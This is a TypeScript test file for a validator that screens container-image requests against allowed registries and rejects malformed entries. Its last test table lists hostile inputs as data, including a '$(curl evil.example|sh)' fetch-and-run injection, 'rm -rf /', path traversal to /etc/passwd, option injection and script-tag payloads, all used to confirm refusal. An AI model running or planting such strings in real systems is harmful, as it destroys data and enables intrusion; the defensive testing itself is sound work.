import { describe, expect, it } from 'vitest'
import { UsageError } from '../../oci/errors'
import { formatImageRef } from '../../oci/image-ref'
import { isAllowed, parseAllowedSources } from '../allowed-sources'
import { screenRequest } from '../screen-request'

const allowed = parseAllowedSources(['registry.k8s.io', 'docker.io/library', 'gcr.io/google-containers', 'localhost:5000'])
const screen = (candidates: string[], max = 10) => {
  const { accepted, refused } = screenRequest(candidates, allowed, max)
  return { accepted: accepted.map(formatImageRef), refused }
}

describe('parseAllowedSources', () => {
  it('takes registries and namespaces, Docker Hub under any of its names', () => {
    expect(parseAllowedSources(['registry.k8s.io', 'index.docker.io/library', 'GHCR.io/octo-org', '127.0.0.1:5000'])).toEqual([
      { registry: 'registry.k8s.io' },
      { registry: 'docker.io', path: 'library' },
      { registry: 'ghcr.io', path: 'octo-org' },
      { registry: '127.0.0.1:5000' }
    ])
  })

  it.each([
    ['library', 'the first part is not a registry host'],
    ['nginx/app', 'the first part is not a registry host'],
    ['gcr.io/Upper', 'not a namespace path'],
    ['gcr.io/a/../b', 'not a namespace path'],
    ['https://gcr.io', 'the first part is not a registry host'],
    ['gcr.io/x:1.0', 'not a namespace path']
  ])('refuses %s by name', (entry, problem) => {
    expect(() => parseAllowedSources([entry])).toThrow(UsageError)
    expect(() => parseAllowedSources([entry])).toThrow(`allowed-sources "${entry}": ${problem}`)
  })
})

describe('isAllowed', () => {
  it('matches a registry, or a namespace at a path boundary, hosts by what they name', () => {
    const ref = (registry: string, repository: string) => ({ registry, repository })
    expect(isAllowed(ref('registry.k8s.io', 'pause'), allowed)).toBe(true)
    expect(isAllowed(ref('docker.io', 'library/nginx'), allowed)).toBe(true)
    expect(isAllowed(ref('docker.io', 'library-x/nginx'), allowed)).toBe(false)
    expect(isAllowed(ref('docker.io', 'bitnami/redis'), allowed)).toBe(false)
    expect(isAllowed(ref('gcr.io', 'google-containers/pause'), allowed)).toBe(true)
    expect(isAllowed(ref('gcr.io', 'google-containers'), allowed)).toBe(true)
    expect(isAllowed(ref('gcr.io', 'other/pause'), allowed)).toBe(false)
    expect(isAllowed(ref('127.0.0.1:5000', 'x'), allowed)).toBe(true)
    expect(isAllowed(ref('127.0.0.1:5001', 'x'), allowed)).toBe(false)
    expect(isAllowed(ref('registry.k8s.io.evil.example', 'pause'), allowed)).toBe(false)
  })
})

describe('screenRequest', () => {
  it('accepts allowed references, fully qualified, `latest` where no tag or digest is named, each once', () => {
    const digest = `sha256:${'a'.repeat(64)}`
    expect(screen(['nginx', 'docker.io/library/nginx:latest', 'registry.k8s.io/pause:3.9', `registry.k8s.io/pause@${digest}`, 'nginx:latest'])).toEqual({
      accepted: ['docker.io/library/nginx:latest', 'registry.k8s.io/pause:3.9', `registry.k8s.io/pause@${digest}`],
      refused: []
    })
  })

  it('refuses a registry or namespace not allowed, naming it and the allowed ones', () => {
    expect(screen(['quay.io/coreos/etcd:v3.5.0', 'bitnami/redis']).refused).toEqual([
      {
        text: 'quay.io/coreos/etcd:v3.5.0',
        why: 'quay.io/coreos/etcd is not under an allowed source (registry.k8s.io, docker.io/library, gcr.io/google-containers, localhost:5000)'
      },
      { text: 'bitnami/redis', why: expect.stringMatching(/^docker\.io\/bitnami\/redis is not under an allowed source/) }
    ])
  })

  it('refuses entries beyond max-images by name', () => {
    const { accepted, refused } = screen(['registry.k8s.io/a:1', 'registry.k8s.io/b:1', 'registry.k8s.io/a:1', 'registry.k8s.io/c:1', 'registry.k8s.io/d:1'], 2)
    expect(accepted).toEqual(['registry.k8s.io/a:1', 'registry.k8s.io/b:1'])
    expect(refused.map((r) => r.text)).toEqual(['registry.k8s.io/c:1', 'registry.k8s.io/d:1'])
    expect(refused[0].why).toBe('beyond the limit of 2 images a request; ask for it in another request')
  })

  it('refuses entries that name their own target (hub-mirror $NAME, SOURCE => TARGET)', () => {
    expect(screen(['registry.k8s.io/kube-apiserver:v1.27.4$my-apiserver', 'nginx:1.25 => evil/x']).refused.map((r) => r.why)).toEqual([
      'names its own target; a request cannot choose target names',
      'names its own target; a request cannot choose target names'
    ])
  })

  it.each([
    ['nginx:1.25; rm -rf /', 'holds whitespace or control characters'],
    ['$(curl evil.example|sh)', 'names its own target'],
    ['`id`;reboot', 'is not a repository path'],
    ['--insecure-policy', 'is not a repository path'],
    ['-v=/:/host', 'is not a repository path'],
    ['../../etc/passwd', 'is not a registry host'],
    ['registry.k8s.io/../../etc/passwd', 'is not a repository path'],
    ['/etc/passwd', 'is not a repository path'],
    ['oci:/tmp/layout', 'is not a registry host'],
    ['https://registry.k8s.io/pause:3.9', 'a reference has no scheme'],
    ['user:secret@registry.k8s.io/pause', 'is not a digest'],
    ['<img src=x onerror=alert(1)>', 'holds whitespace or control characters'],
    ['<script>alert(1)</script>', 'is not a repository path'],
    ['@octocat', 'is not a digest'],
    ['registry.k8s.io/pause:3.9\u202e', 'is not a tag'],
    ['registry.k8s.io/pause:3.9\u0007', 'holds whitespace or control characters'],
    [`registry.k8s.io/${'a'.repeat(600)}`, 'longer than 512 characters']
  ])('refuses %j as not a reference, saying why', (text, problem) => {
    const { accepted, refused } = screen([text])
    expect(accepted).toEqual([])
    expect(refused).toHaveLength(1)
    expect(refused[0].text).toBe(text)
    expect(refused[0].why).toContain(problem)
    // The entry is quoted by the reply, not again in the reason; the accepted forms are said once, not per entry.
    expect(refused[0].why).not.toMatch(/^entry|expected REGISTRY/)
  })
})
